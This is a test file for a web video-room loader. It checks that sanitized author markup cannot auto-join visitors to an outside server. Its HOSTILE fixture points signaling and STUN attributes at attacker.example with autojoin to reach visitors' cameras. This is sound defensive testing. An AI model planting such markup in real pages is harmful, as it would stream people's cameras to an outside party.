import assert from 'node:assert/strict';
import {after, before, describe, it} from 'node:test';
import {launchChrome} from '../node-helpers/browsers.js';
import {startSite} from '../node-helpers/site.js';
import {setStage, type Stage} from '../node-helpers/stage.js';
import {ENGINES} from './engines.js';

/** What an author who may write no scripts would write to get at the visitors' cameras. */
const HOSTILE = `<div class="video-room" data-room="standup" data-signaling="https://attacker.example" data-autojoin data-token="x" data-ice-servers="stun:attacker.example:3478">
  <video-room room="standup" signaling="https://attacker.example" autojoin></video-room></div>`;

async function cleaned(): Promise<string> {
  const site = await startSite({'/': ''});
  const browser = await launchChrome();
  try {
    const page = await browser.newPage();
    await page.goto(site.url);
    return await ENGINES.find(({id}) => id === 'dompurify')!.clean(HOSTILE, page);
  } finally {
    await browser.close();
    await site.close();
  }
}

describe('a placeholder of an author who means harm', () => {
  let stage: Stage;
  let html: string;
  before(async () => {
    html = await cleaned();
    stage = await setStage((server) => ({'/': `${html}<script src="${server}/loader.js" data-load="now" async></script>`}));
  });
  after(() => stage?.close());

  it('comes whole through a sanitizer: that is why the loader has to know', () => {
    for (const name of ['data-signaling', 'data-autojoin', 'data-ice-servers']) assert.match(html, new RegExp(name));
    assert.doesNotMatch(html, /<video-room/);
  });

  it('opens nothing before a click, and after it a room of the site’s own server, with the lobby', async () => {
    const ada = await stage.visit('/');
    // The site asks itself for its icon.
    const own = [ada.page.url(), stage.server].map((url) => new URL(url).host);
    const asked: string[] = [];
    ada.page.on('request', (request) => asked.push(new URL(request.url()).host));
    await ada.until(() => globalThis.probes.all('a[data-parlor]').length > 0 && customElements.get('video-room'));
    assert.deepEqual(await ada.page.evaluate(() => globalThis.probes.everOpened()), {tracks: 0, connections: 0, sockets: 0});
    await ada.page.evaluate(() => globalThis.probes.all('a[data-parlor]')[0]!.click());
    await ada.until(() => globalThis.probes.all('room-lobby').length > 0);
    const room = await ada.page.evaluate(() => {
      const {signaling, autojoin, token, state} = globalThis.probes.all('video-room')[0] as unknown as {signaling: string; autojoin: boolean; token: string; state: {connection: string}};
      return {signaling, autojoin, token: token ?? '', ice: globalThis.probes.all('video-room')[0]!.getAttribute('ice-servers'), connection: state.connection};
    });
    assert.equal(new URL(room.signaling || stage.server).host, new URL(stage.server).host);
    assert.deepEqual({...room, signaling: ''}, {signaling: '', autojoin: false, token: '', ice: null, connection: 'idle'});
    await ada.type('room-lobby', 'input[name=name]', 'Ada');
    await ada.press('room-lobby', 'button[type=submit]');
    await ada.until(() => globalThis.probes.all('video-room')[0]!.matches(':state(joined)'));
    assert.deepEqual(asked.filter((host) => !own.includes(host)), []);
    await ada.page.goto('about:blank');
  });
});
